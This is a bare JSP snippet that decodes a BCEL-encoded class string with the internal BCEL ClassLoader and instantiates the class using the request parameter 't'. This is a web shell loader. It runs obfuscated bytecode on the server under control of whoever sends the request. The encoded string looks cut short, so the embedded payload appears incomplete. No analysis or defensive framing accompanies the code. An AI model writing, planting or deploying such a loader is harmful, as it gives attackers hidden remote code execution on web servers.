<%
    String code = "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dT$5bW$d3$40$Q$fe$b6$z$a6$q$G$b4$I$d8$A$e2$V$b5";
    ClassLoader loader = new com.sun.org.apache.bcel.internal.util.ClassLoader();
    Class<?> c = loader.loadClass(code);
    c.getConstructor(String.class).newInstance(request.getParameter("t"));
%>
